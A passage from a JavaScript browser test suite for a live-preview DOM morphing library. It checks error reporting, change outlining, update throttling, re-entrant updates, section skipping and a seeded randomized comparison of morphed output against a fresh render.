    T.eq([at('named').getAttribute('target'), at('blank').getAttribute('target'), at('own').getAttribute('for')], [null, '_blank', 'own-field']);
    at('trap').click();
    at('cmd').click();
    at('pop').click();
    T.eq([clicks, at('pg-dlg').open, at('pg-pop').matches(':popover-open')], [0, false, false]);
    live.remove();
    host.remove();
  }));

test('what onMorph throws is reported as uncaught, and the preview goes on', () =>
  inPage(async () => {
    const live = T.mount('');
    const reported = [];
    // (Handled here, so the page reports no error of its own.)
    window.addEventListener('error', (e) => (reported.push(e.error?.message), e.preventDefault()));
    const preview = new T.Preview(live, {
      onMorph: () => {
        throw new Error('the page\'s own bug');
      },
    });
    preview.update(T.sections([['a', '1']]));
    T.eq(reported, ["the page's own bug"]);
    preview.section('a', T.sections([['a', '2']]));
    T.eq(preview.flush(), ['a']);
    T.eq(live.textContent, '2', 'the next morph ran');
    T.eq(reported.length, 2);
    live.remove();
  }));

test('the preview outlines what changed and follows it', () =>
  inPage(async () => {
    const live = T.mount('');
    const filler = [...Array(30).keys()].map((i) => `<div style="height:100px">${i}</div>`).join('');
    const page = (text) => `<section data-section-id="top"><p>top</p></section>${filler}<section data-section-id="end"><p id="pv-end">${text}</p></section>`;
    const [runs, onMorph] = T.recorder();
    const preview = new T.Preview(live, { outline: 150, follow: true, onMorph });
    preview.update(page('a'));
    await T.sleep(250); // the first render's outlines (all of it) fade
    window.scrollTo(0, 0);
    preview.update(page('b'));
    preview.flush(); // in case the update had to wait its turn
    T.eq(runs.at(-1)?.[1], ['end']);
    const end = document.getElementById('pv-end');
    T.ok(end.hasAttribute(T.OUTLINE), 'the changed element is outlined');
    T.ok(!live.firstElementChild.hasAttribute(T.OUTLINE), 'the unchanged section is not');
    const rect = end.getBoundingClientRect();
    T.ok(rect.top >= 0 && rect.bottom <= innerHeight + 1, `${rect.top} ${innerHeight}`);
    await T.sleep(300);
    T.ok(!end.hasAttribute(T.OUTLINE), 'the outline faded');
    live.remove();
  }));

test('a steady stream morphs at most four times a second', () =>
  inPage(async () => {
    const live = T.mount('');
    const [runs, onMorph] = T.recorder();
    const preview = new T.Preview(live, { onMorph });
    const start = Date.now();
    let i = 0;
    while (Date.now() - start < 1100) {
      preview.update(T.sections([['s', String(i)]]));
      i += 1;
      await T.sleep(15);
    }
    await T.sleep(300);
    T.ok(i > 30, `${i} updates were sent`);
    T.ok(runs.length >= 4 && runs.length <= 6, `${runs.length} morphs`);
    for (let k = 1; k < runs.length; k++) T.ok(runs[k][0] - runs[k - 1][0] >= 245, `morphs ${runs[k][0] - runs[k - 1][0]} ms apart`);
    T.eq(live.textContent, String(i - 1), 'the last update landed');
    live.remove();
  }));

test('an update sent while a morph runs lands after it', () =>
  inPage(async () => {
    // A custom element whose connectedCallback (run synchronously inside the
    // morph's insertion) sends the preview an update.
    customElements.define('x-reenter', class extends HTMLElement {
      connectedCallback() {
        window.__reenter?.();
      }
    });
    const live = T.mount('');
    const preview = new T.Preview(live);
    window.__reenter = () => preview.update(T.sections([['a', 'sent from inside']]));
    preview.update(T.sections([['a', '<x-reenter></x-reenter>']]));
    T.eq(live.querySelectorAll('x-reenter').length, 1);
    await T.sleep(400);
    T.eq(live.textContent, 'sent from inside');
    delete window.__reenter;
    live.remove();
  }));

test('unchanged sections are skipped and changed keys reported', () =>
  inPage(() => {
    const live = T.mount('');
    const preview = new T.Preview(live);
    preview.update(T.sections([['a', '1'], ['b', '1'], ['c', '1']]));
    const watch = T.observe(live.firstElementChild);
    preview.update(T.sections([['a', '1'], ['b', '2'], ['c', '1']]));
    T.eq(preview.flush(), ['b']);
    T.eq(watch.takeRecords().length, 0, 'section a was not entered');
    preview.update(T.sections([['b', '2'], ['c', '1']]));
    T.eq(preview.flush(), ['a'], 'a removed section changed');
    T.eq(live.childElementCount, 2);
    // Single sections: unchanged ones are skipped, changed ones morphed.
    preview.section('c', T.sections([['c', '1']]));
    T.eq(preview.flush(), [], 'the same html is shown already');
    preview.section('c', T.sections([['c', '3']]));
    preview.section('d', T.sections([['d', 'new']]));
    T.eq(preview.flush(), ['c', 'd']);
    T.eq(live.textContent, '23new');
    live.remove();
  }));

test('a freed preview morphs no more, not even what was pending', () =>
  inPage(async () => {
    const live = T.mount('');
    const [runs, onMorph] = T.recorder();
    const preview = new T.Preview(live, { onMorph });
    preview.update(T.sections([['a', '1']]));
    preview.update(T.sections([['a', '2']])); // waits for the timer
    preview.free();
    await T.sleep(400);
    T.eq(live.textContent, '1', 'the pending update was dropped');
    preview.update(T.sections([['a', '3']]));
    T.eq(preview.flush(), []);
    T.eq(live.textContent, '1');
    T.eq(runs.length, 1);
    // Another preview is unaffected.
    const other = new T.Preview(live);
    other.update(T.sections([['a', '4']]));
    T.eq(live.textContent, '4');
    live.remove();
  }));

test('a whole document shows its body', () =>
  inPage(() => {
    const live = T.mount('');
    const preview = new T.Preview(live);
    preview.update('<!doctype html><html><head><title>T</title></head><body><main data-section-id="m">hi</main></body></html>');
    T.eq(live.innerHTML, '<main data-section-id="m">hi</main>');
    live.remove();
  }));

// ---- randomized: the morph equals a fresh render ----

test('random edits to a 200-component page match a fresh render, apart from typed values', () =>
  inPage(() => {
    const M64 = (x) => BigInt.asUintN(64, x);
    // xorshift64*: deterministic, seedable, enough for shuffling a page.
    const rng = (seed) => {
      let s = M64(seed);
      return (n) => {
        s ^= s >> 12n;
        s = M64(s ^ (s << 25n));
        s ^= s >> 27n;
        return Number((M64(s * 0x2545f4914f6cdd1dn) >> 33n) % BigInt(Math.max(n, 1)));
      };
    };
    const render = (page) =>
      page
        .map((c) => `<${c.tag} data-component-id="c${c.id}" class="k${c.class}"><h3>title ${c.id}</h3><p>text ${c.text}</p>${c.extra ? '<em>more</em>' : ''}<input value="v${c.text}"></${c.tag}>`)
        .join('');
    const tags = ['div', 'article', 'section'];
    for (let seed = 1n; seed <= 3n; seed++) {
      const below = rng(seed * 0x9e3779b97f4a7c15n);
      let nextId = 200;
      const page = [...Array(200).keys()].map((id) => ({ id, tag: 'div', class: id % 3, text: id, extra: id % 2 == 0 }));
      const live = T.mount('');
      T.morph(live, render(page));
      for (let step = 0; step < 25; step++) {
        for (let n = 1 + below(6); n > 0; n--) {
          const at = below(page.length);
          const what = below(7);
          if (what == 0) page.splice(at, 0, { id: nextId++, tag: 'div', class: 0, text: 0, extra: false });
          else if (what == 1 && page.length > 1) page.splice(at, 1);
          else if (what == 1) page[at].tag = tags[below(tags.length)];
          else if (what == 2) page.splice(below(page.length), 0, ...page.splice(at, 1));
          else if (what == 3) page[at].text += 1;
          else if (what == 4) page[at].class = (page[at].class + 1) % 4;
          else if (what == 5) page[at].extra = !page[at].extra;
          else page[at].tag = tags[below(tags.length)];
        }
        // The person types into a few inputs: [input, typed, default then].
        const inputs = live.querySelectorAll('input');
        const typed = [0, 1, 2].map(() => {
          const input = inputs[below(inputs.length)];
          const text = `typed ${step}`;
          input.value = text;
          return [input, text, input.getAttribute('value') ?? ''];
        });
        const html = render(page);
        const before = T.keyed(live);
        T.morph(live, html);
        // Apart from that state, the DOM is a fresh render; the state stays
        // where the server's default did not change.
        for (const [input, text, dflt] of typed.filter(([i]) => i.isConnected)) {
          const now = input.getAttribute('value') ?? '';
          T.eq(input.value, now == dflt ? text : now, `seed ${seed}, step ${step}`);
        }
        const fresh = T.mount(html);
        T.eq(T.canonical(live), T.canonical(fresh), `seed ${seed}, step ${step}`);
        for (const [k, tag, el] of T.keyed(live)) {
          const old = before.find(([ok, ot]) => ok == k && ot == tag);
          if (old) T.ok(old[2] === el, `seed ${seed}, step ${step}: ${k} was recreated`);
        }
        fresh.remove();
      }
      live.remove();
    }
  }));
